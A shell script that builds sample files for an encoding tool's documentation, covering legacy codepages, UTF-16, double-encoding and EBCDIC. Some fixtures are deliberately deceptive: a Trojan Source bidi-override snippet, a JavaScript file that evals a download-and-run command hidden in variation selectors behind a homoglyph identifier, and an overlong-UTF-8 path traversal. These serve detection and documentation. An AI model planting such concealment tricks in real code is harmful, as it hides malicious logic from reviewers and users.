#!/bin/sh
# Creates the files that README.md, the man pages and the cookbook use, in the current directory, which should be empty.
# Calls utfconv to encode the files in UTF-16 and in multi-byte encodings.
#
#     mkdir samples && cd samples && sh ../docs/samples.sh
set -eu

# letter.txt and prices.csv are windows-1252, with Windows newlines.
printf 'Sehr geehrte Frau M\374ller,\r\n\r\nvielen Dank f\374r Ihre Bestellung. Die B\374cher kosten 25 \200 und kommen n\344chste\r
Woche; die \374brigen schicken wir sp\344ter.\r\n\r\nMit freundlichen Gr\374\337en\r\nJ\366rg Sch\344fer\r\n' >letter.txt
printf 'Artikel;Preis\r\nK\374hlschrank;499,00 \200\r\nSp\374lmaschine;379,00 \200\r\nStaubsauger;129,00 \200\r\n' >prices.csv

# menu.csv is UTF-8 with one stray byte of windows-1252; notes.txt has an overlong sequence.
printf 'Name;Price\nCr\303\250me br\303\273l\303\251e;\342\202\2545\nCaf\351;\342\202\2542\n' >menu.csv
printf 'Cr\303\250me br\303\273l\303\251e;\342\202\2545\nCaf\303\251;\342\202\2542\n' >menu.utf8.csv
{
    printf 'Tables and chairs\n%.0s' 1 2 3 4 5 6 7 8 9 10 11
    printf 'The path is ..\300\257etc\n'
} >notes.txt

# These files are UTF-16 with a BOM: an export, a resource script, and a log as PowerShell 5 writes it.
tr -d '\r' <letter.txt | utfconv -f windows-1252 -t UTF-16LE --output-bom=always >export.txt
cp export.txt menu.rc
printf 'INFO started\r\nWARN caf\303\251 closed\r\nINFO stopped\r\n' | utfconv -t UTF-16LE --output-bom=always >app.log

# These UTF-8 files have a BOM, mixed newlines, a decomposed character, or no final newline.
printf '\357\273\277id;name\n1;Zo\303\253\n' >contacts.csv
printf 'one\r\ntwo\nthree\r\n' >mixed.txt
printf 'Cafe\314\201.txt\n' >names.txt
printf '<p>Stra\303\237e, Caf\303\251, 5\302\240\342\202\254</p>\r\n<p>Gr\303\266\303\237e' >page.html

# access.c shows other code than it runs (Trojan Source), and has a zero width space.
printf 'if access != "user\342\200\256 \342\201\246// admins only\342\201\251 \342\201\246" {\n    grant\342\200\213(user);\n' >access.c

# addon.js hides a command in variation selectors, and has a name with a Cyrillic letter.
printf 'const run = eval;\nconst p\320\260yload = 1;\nrun(decode(`\363\240\205\223\363\240\205\245\363\240\205\242\363\240\205\234\363\240\204\220\363\240\205\225\363\240\205\246\363\240\205\231\363\240\205\234\363\240\204\236\363\240\205\243\363\240\205\230\363\240\205\254\363\240\205\243\363\240\205\230`));\n' >addon.js

# person.xml declares its encoding.
printf '<?xml version="1.0" encoding="ISO-8859-1"?>\n<name>Ren\351e</name>\n' >person.xml

# dump.sql is double-encoded: UTF-8 that was decoded as windows-1252 and encoded again.
printf 'INSERT INTO dish VALUES (1, '\''Cr\303\203\302\250me br\303\203\302\273l\303\203\302\251e'\'');
INSERT INTO dish VALUES (2, '\''Souffl\303\203\302\251'\'');\n' >dump.sql

# mixed.log has lines of two programs, one of which wrote UTF-8, the other windows-1252.
printf 'login: Ren\303\251e M\303\274ller\nlogin: J\366rg Sch\344fer\nlogout: Ren\303\251e M\303\274ller\nlogout: J\366rg Sch\344fer\n' >mixed.log

# report.ebc is a mainframe's file in EBCDIC with EBCDIC's own newlines.
printf 'ACCOUNT 00017  BALANCE  1.250,00\nACCOUNT 00018  BALANCE    310,50\n' | utfconv -t IBM1047 --ebcdic-newline=lf >report.ebc

# The subtitles are in Russian (windows-1251), Chinese (GBK) and Japanese (Shift_JIS).
mkdir subtitles
printf '1\n00:00:01,000 --> 00:00:03,500\nПривет! Как дела, дружище?\n\n2\n00:00:04,000 --> 00:00:06,000\nСпасибо, хорошо. Когда приехал?\n' |
    utfconv -t windows-1251 >subtitles/ru.srt
printf '1\n00:00:01,000 --> 00:00:03,500\n你好，最近怎么样？\n\n2\n00:00:04,000 --> 00:00:06,000\n谢谢，我很好。你什么时候来的？\n' |
    utfconv -t GBK >subtitles/zh.srt
printf '1\n00:00:01,000 --> 00:00:03,500\nこんにちは。お元気ですか。\n\n2\n00:00:04,000 --> 00:00:06,000\nありがとう、元気です。いつ来たのですか。\n' |
    utfconv -t Shift_JIS >subtitles/ja.srt

# The file names in Music/ are windows-1252, and the file name in letters.zip is cp866.
mkdir -p Music/Chansons src docs
echo ogg >Music/Intro.ogg
for name in "$(printf '\311t\351 indien')" "$(printf 'No\353l')" "$(printf 'D\351j\340 vu')"; do
    echo ogg >"Music/Chansons/$name.ogg"
done
printf 'PK\003\004\024\000\000\000\000\000\000\000\041\000\000\000\000\000\000\000\000\000\000\000\000\000\005\000\000\000\257\250\341\354\254' >letters.zip
printf 'PK\001\002\024\000\024\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\005\000' >>letters.zip
printf '\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\257\250\341\354\254' >>letters.zip
printf 'PK\005\006\000\000\000\000\001\000\001\000\063\000\000\000\043\000\000\000\000\000' >>letters.zip

cp letter.txt src/brief.txt
cp export.txt notes.txt page.html docs
head -c 8192 /dev/zero | tr '\0' x >core
